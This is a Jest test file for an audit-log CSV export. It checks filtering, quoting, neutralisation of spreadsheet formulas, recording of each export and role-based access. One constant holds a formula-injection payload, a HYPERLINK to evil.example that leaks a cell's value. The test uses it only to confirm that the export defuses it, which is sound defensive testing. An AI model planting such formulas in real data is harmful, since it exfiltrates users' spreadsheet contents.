import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import supertest from 'supertest';
import type TestAgent from 'supertest/lib/agent.js';
import type { UserActor } from '../src/audit/actor.js';
import { csvCell, exportAuditLogs } from '../src/audit/audit-export.service.js';
import { parseAuditLogFilter } from '../src/audit/audit-log-filter.js';
import type { Role } from '../src/auth/roles.js';
import { buildFloor, type Floor } from './support/floor-fixtures.js';
import { createTestApp, type TestApp } from './support/test-app.js';
import { AUDIT_CSV_HEADER } from './support/expected.js';

/**
 * The CSV export of the audit trail: exactly the rows the filter selects (as many as the
 * database counts, the same ids), proper quoting, neutralised formulas, the export itself
 * recorded with its row count and actor, and only for audit reviewers.
 */

const URL = '/admin/exports/audit-logs.csv';
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
const AWKWARD = 'Ship partials, "as completed"\nSecond line; third, with a comma\r\nand a CRLF';

const COLUMNS: readonly string[] = AUDIT_CSV_HEADER;

let t: TestApp;
let floor: Floor;
const agents = {} as Record<Role, TestAgent>;
const ids = {} as Record<'traveler' | 'part' | 'customer', string>;

/** RFC 4180: fields separated by commas, quoted when they hold commas, quotes or line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  let i = text.charCodeAt(0) === 0xfeff ? 1 : 0;
  for (; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') {
        quoted = false;
      } else {
        field += c;
      }
    } else if (c === '"' && field === '') {
      quoted = true;
    } else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      // the line ends at the \n
    } else if (c === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
    } else {
      field += c;
    }
  }
  if (field !== '' || row.length > 0) {
    row.push(field);
    rows.push(row);
  }
  return rows;
}

function records(text: string): Array<Record<string, string>> {
  const [header, ...lines] = parseCsv(text);
  expect(header).toEqual(COLUMNS);
  expect(lines.filter((line) => line.length !== COLUMNS.length)).toEqual([]);
  return lines.map((line) => Object.fromEntries(header!.map((name, i) => [name, line[i]!])));
}

async function exportCsv(agent: TestAgent, query: Record<string, string>) {
  const res = await agent
    .get(URL)
    .query(query)
    .buffer(true)
    .parse((response, done) => {
      let body = '';
      response.setEncoding('utf8');
      response.on('data', (chunk: string) => (body += chunk));
      response.on('end', () => done(null, body));
    });
  return res;
}

async function ids_(sql: string, params: unknown[]): Promise<string[]> {
  return (await t.db.query<{ id: string }>(`SELECT id::text AS id FROM audit_logs WHERE ${sql} ORDER BY audit_logs.id`, params)).rows.map((r) => r.id);
}

interface ExportRow {
  actor_id: number;
  actor_username: string;
  table_name: string;
  ip_address: string | null;
  details: Record<string, unknown>;
}

async function exportRows(): Promise<ExportRow[]> {
  return (
    await t.db.query<ExportRow>(
      `SELECT actor_id, actor_username, table_name, host(ip_address) AS ip_address, details FROM audit_logs WHERE action = 'export' ORDER BY id`,
    )
  ).rows;
}

beforeAll(async () => {
  t = await createTestApp();
  floor = await buildFloor(t.db);
  for (const role of ['admin', 'engineer', 'quality', 'approver', 'operator', 'viewer'] as const) agents[role] = await t.signIn(role);
  ids.traveler = String(floor.draft.id);
  ids.part = String(floor.parts.bracket.id);
  ids.customer = String(floor.customers.aero.id);

  // Values a spreadsheet would run, and values that need quoting, written through the panel.
  const edit = async (resource: string, id: string, fields: Record<string, string>) => {
    const shown = await agents.engineer.get(`/admin/api/resources/${resource}/records/${id}/show`);
    let req = agents.engineer.post(`/admin/api/resources/${resource}/records/${id}/edit`).field('version', String(shown.body.record.params.version));
    for (const [k, v] of Object.entries(fields)) req = req.field(k, v);
    const res = await req;
    expect(res.body.record.errors).toEqual({});
  };
  await edit('parts', ids.part, { description: FORMULA });
  await edit('travelers', ids.traveler, { notes: AWKWARD });
  await edit('customers', ids.customer, { phone: '+1 316 555 0199', contact_name: '@Karen Liu' });
});

afterAll(async () => {
  await t.close();
});

describe('the CSV holds exactly the filtered rows', () => {
  const now = () => new Date();
  const cases: Array<{ name: string; query: () => Record<string, string>; where: () => [string, unknown[]]; selectsNone?: true }> = [
    { name: 'no filter', query: () => ({}), where: () => ['true', []] },
    { name: 'record type', query: () => ({ 'filters.table_name': 'travelers' }), where: () => ['table_name = $1', ['travelers']] },
    {
      name: 'record type and record',
      query: () => ({ 'filters.table_name': 'travelers', 'filters.record_id': ids.traveler }),
      where: () => ['table_name = $1 AND record_id = $2', ['travelers', ids.traveler]],
    },
    { name: 'record id alone, exact (not "contains")', query: () => ({ 'filters.record_id': '1' }), where: () => ['record_id = $1', ['1']] },
    { name: 'user', query: () => ({ 'filters.actor_id': String(t.users.engineer.id) }), where: () => ['actor_id = $1', [t.users.engineer.id]] },
    { name: 'action (events)', query: () => ({ 'filters.action': 'login' }), where: () => ['action = $1', ['login']] },
    {
      name: 'action, field and date range',
      query: () => ({
        'filters.action': 'update',
        'filters.field_name': 'notes',
        'filters.occurred_at~~from': new Date(now().getTime() - 3_600_000).toISOString(),
        'filters.occurred_at~~to': new Date(now().getTime() + 60_000).toISOString(),
      }),
      where: () => [
        `action = 'update' AND field_name = 'notes' AND occurred_at >= now() - interval '1 hour' AND occurred_at <= now() + interval '1 minute'`,
        [],
      ],
    },
    {
      name: 'a date range that selects nothing',
      query: () => ({ 'filters.occurred_at~~from': '2001-01-01T00:00:00.000Z', 'filters.occurred_at~~to': '2001-12-31T23:59:59.999Z' }),
      where: () => [`occurred_at BETWEEN '2001-01-01' AND '2001-12-31 23:59:59.999+00'`, []],
      selectsNone: true,
    },
  ];

  it.each(cases)('$name', async ({ query: makeQuery, where, selectsNone }) => {
    const fixed = makeQuery();
    const query = () => fixed;
    const [sql, params] = where();
    const expected = await ids_(sql, params);
    // Equal lists prove little when both are empty: only the case meant to select nothing may.
    expect({ rows: expected.length > 0 }).toEqual({ rows: !selectsNone });
    const exportsBefore = (await exportRows()).length;
    // The panel's list, with the same filters, counts the same.
    const listed = await agents.quality.get('/admin/api/resources/audit_logs/actions/list').query({ ...query(), perPage: '1' });
    expect(listed.status).toBe(200);
    expect(listed.body.meta.total).toBe(expected.length);

    const res = await exportCsv(agents.quality, query());
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="audit-log-.*\.csv"$/);
    const rows = records(res.body as string);
    expect(rows).toHaveLength(expected.length);
    expect(rows.map((r) => r.id)).toEqual(expected);
    expect(res.headers['x-row-count']).toBe(String(expected.length));

    // And the export is on record: who, which filter, how many rows.
    const exports = await exportRows();
    expect(exports).toHaveLength(exportsBefore + 1);
    const last = exports.at(-1)!;
    expect(last).toMatchObject({ actor_id: t.users.quality.id, actor_username: 'quality.user', table_name: 'audit_logs' });
    expect(last.ip_address).toMatch(/127\.0\.0\.1/);
    expect(last.details).toMatchObject({ rowCount: expected.length, format: 'csv' });
    // Every filter given, and none other (none at all for the unfiltered export).
    const given = Object.entries(query()).map(([key, value]) => {
      const name = key.replace('filters.', '').replace('occurred_at~~', 'occurred_');
      return [name, name === 'actor_id' ? Number(value) : name.startsWith('occurred_') ? new Date(value).toISOString() : value];
    });
    expect(last.details.filters).toEqual(Object.fromEntries(given));
  });

  it('the export row itself is in the next export, not in its own', async () => {
    const first = records((await exportCsv(agents.admin, { 'filters.action': 'export' })).body as string);
    const second = records((await exportCsv(agents.admin, { 'filters.action': 'export' })).body as string);
    expect(second).toHaveLength(first.length + 1);
    const newest = second.at(-1)!;
    // Read as people read it (the action's label, the user's name), with the codes and ids beside it.
    expect(newest).toMatchObject({
      action: 'Exported',
      action_code: 'export',
      record_type: 'Audit log',
      table_name: 'audit_logs',
      user: 'Test admin (admin.user)',
      actor_username: 'admin.user',
      actor_id: String(t.users.admin.id),
    });
    // The newest row of the second file is the first export's own record, with the first file's count.
    expect(JSON.parse(newest.details!)).toMatchObject({ rowCount: first.length, filters: { action: 'export' } });
  });
});

describe('cells are safe in a spreadsheet and survive quoting', () => {
  let rows: Array<Record<string, string>>;
  beforeAll(async () => {
    rows = records((await exportCsv(agents.quality, { 'filters.action': 'update' })).body as string);
  });

  it('neutralises formulas with a leading quote', () => {
    const description = rows.find((r) => r.table_name === 'parts' && r.record_id === ids.part && r.field_name === 'description');
    expect(description?.new_value).toBe(`'${FORMULA}`);
    const contact = rows.find((r) => r.table_name === 'customers' && r.record_id === ids.customer && r.field_name === 'contact_name');
    expect(contact?.new_value).toBe("'@Karen Liu");
    expect(contact?.old_value).toBe(floor.customers.aero.contactName);
    const phone = rows.find((r) => r.table_name === 'customers' && r.record_id === ids.customer && r.field_name === 'phone');
    expect(phone?.new_value).toBe("'+1 316 555 0199");
    expect(rows.length).toBeGreaterThan(0);
    for (const row of rows) for (const value of Object.values(row)) expect(value).not.toMatch(/^[=+\-@]/);
  });

  it('keeps commas, quotes and line breaks inside one cell', () => {
    const notes = rows.find((r) => r.table_name === 'travelers' && r.record_id === ids.traveler && r.field_name === 'notes');
    expect(notes?.new_value).toBe(AWKWARD);
    expect(notes?.new_value_stored).toBe(AWKWARD);
    expect(notes?.actor_username).toBe('engineer.user');
    // The record's title and the user's name beside their ids.
    expect(notes).toMatchObject({ record_title: floor.draft.number, record_type: 'Travelers', field: 'Notes', user: 'Test engineer (engineer.user)' });
  });

  it('quotes by the rules (unit)', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('-2')).toBe("'-2");
    expect(csvCell('=A1,"x"')).toBe(`"'=A1,""x"""`);
    expect(csvCell(null)).toBe('');
    expect(csvCell({ a: 1 })).toBe('"{""a"":1}"');
  });
});

describe('who may export', () => {
  it.each(['engineer', 'operator', 'viewer', 'approver'] as const)('%s is refused with 403 and nothing is recorded', async (role) => {
    const before = (await exportRows()).length;
    const res = await agents[role].get(URL).query({ 'filters.table_name': 'travelers' });
    expect(res.status).toBe(403);
    expect(res.text).not.toContain('travelers,');
    expect((await exportRows()).length).toBe(before);
  });

  it('answers 401 without a session, and records nothing', async () => {
    const before = (await exportRows()).length;
    const res = await supertest(t.app).get(URL);
    expect(res.status).toBe(401);
    expect((await exportRows()).length).toBe(before);
  });

  it('refuses a filter it does not understand with 400, and records nothing', async () => {
    const before = (await exportRows()).length;
    for (const query of [{ 'filters.actor_id': 'engineer' }, { 'filters.password_hash': 'x' }, { 'filters.occurred_at~~from': 'yesterday-ish' }]) {
      const res = await agents.quality.get(URL).query(query);
      expect(res.status).toBe(400);
    }
    expect((await exportRows()).length).toBe(before);
  });

  it('offers "Export CSV" to reviewers only, with a count for the current filters', async () => {
    const preview = await agents.quality.get('/admin/api/resources/audit_logs/actions/exportCsv').query({ 'filters.table_name': 'travelers' });
    expect(preview.status).toBe(200);
    expect(preview.body.rowCount).toBe((await ids_('table_name = $1', ['travelers'])).length);
    expect((await agents.engineer.get('/admin/api/resources/audit_logs/actions/exportCsv')).status).toBe(403);
  });
});

describe('one snapshot', () => {
  it('rows committed by others while the export runs are not in it', async () => {
    const actor: UserActor = {
      kind: 'user',
      userId: t.users.quality.id,
      username: 'quality.user',
      fullName: 'Test quality',
      email: 'quality@test.example',
      role: 'quality',
      ip: '127.0.0.1',
      userAgent: 'test',
      requestId: 'export-snapshot-test',
    };
    const filter = parseAuditLogFilter({ table_name: 'customers' });
    const before = await ids_(`table_name = 'customers'`, []);
    let csv = '';
    const result = await exportAuditLogs(t.db.sequelize, actor, filter, {
      // Between the count and the first row, someone else changes a customer and commits.
      async start() {
        await t.db.query(`UPDATE customers SET phone = '+1 316 555 0100' WHERE id = $1`, [ids.customer]);
      },
      async write(chunk) {
        csv += chunk;
      },
    });
    const rows = records(csv);
    expect(result).toEqual({ rowCount: before.length, delivered: true });
    expect(rows.map((r) => r.id)).toEqual(before);
    // The concurrent change is in the trail, just not in this export.
    expect((await ids_(`table_name = 'customers'`, [])).length).toBe(before.length + 1);
  });

  it('an export whose receiver goes away is still recorded', async () => {
    const actor: UserActor = {
      kind: 'user',
      userId: t.users.admin.id,
      username: 'admin.user',
      fullName: 'Test admin',
      email: 'admin@test.example',
      role: 'admin',
      ip: '127.0.0.1',
      userAgent: 'test',
      requestId: 'export-abort-test',
    };
    const before = (await exportRows()).length;
    const { SinkClosedError } = await import('../src/audit/audit-export.service.js');
    const result = await exportAuditLogs(t.db.sequelize, actor, parseAuditLogFilter({}), {
      start() {},
      async write() {
        throw new SinkClosedError();
      },
    });
    expect(result.delivered).toBe(false);
    expect((await exportRows()).length).toBe(before + 1);
  });
});
